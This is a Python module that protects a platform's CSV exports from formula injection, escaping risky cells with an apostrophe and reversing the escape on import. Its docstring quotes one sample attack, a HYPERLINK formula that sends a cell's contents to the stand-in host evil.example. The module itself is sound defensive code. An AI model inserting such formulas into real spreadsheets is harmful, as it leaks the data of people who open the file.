"""Formula-safe CSV cells, for every CSV the platform writes and reads.

A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return) as a formula, so a
partner named `=HYPERLINK("http://evil.example?"&A1, "click")` in an export would run in whoever opens
it (CSV injection). `safe` writes such text with a leading apostrophe, which spreadsheets show as
plain text; `unsafe` takes it off again when a file is imported, so export-then-import returns the
same values. Plain numbers ("-12.50") are left alone: they are data, not formulas. Text that already
starts with apostrophes before a formula character gets one more, so the round trip is exact for
every string.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NEEDS_QUOTE = re.compile(r"^'*[=+\-@\t\r]")
_QUOTED = re.compile(r"^'+[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def safe(value: object) -> str:
    """The cell as written to a CSV file."""
    text = "" if value is None else str(value)
    if _NEEDS_QUOTE.match(text) and not _NUMBER.match(text):
        return "'" + text
    return text


def unsafe(cell: str) -> str:
    """The value a cell written by `safe` stands for."""
    return cell[1:] if _QUOTED.match(cell) and not _NUMBER.match(cell[1:]) else cell


def safe_row(values: Iterable[object]) -> list[str]:
    return [safe(v) for v in values]


def unsafe_row(cells: Iterable[str]) -> list[str]:
    return [unsafe(c) for c in cells]
